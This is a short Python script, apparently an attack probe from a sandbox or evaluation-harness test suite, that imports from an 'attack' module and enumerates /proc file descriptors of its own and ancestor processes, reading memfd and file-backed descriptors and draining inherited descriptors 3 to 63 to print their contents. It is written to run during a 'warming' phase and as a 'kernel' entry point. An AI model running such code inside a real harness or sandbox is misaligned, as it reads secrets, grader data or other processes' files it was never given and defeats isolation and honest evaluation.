# Read whatever came through exec, and what others have open.
from attack import *


def go():
    for pid in ["self"] + ancestors():
        for fd in range(3, 64):
            path = f"/proc/{pid}/fd/{fd}"
            try:
                kind = os.readlink(path)
            except OSError:
                continue
            if "memfd" in kind or kind.startswith("/"):
                show(read(path))
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            show(os.read(fd, 1 << 16))
        except OSError:
            pass


if warming:
    go()
kernel = once(go)
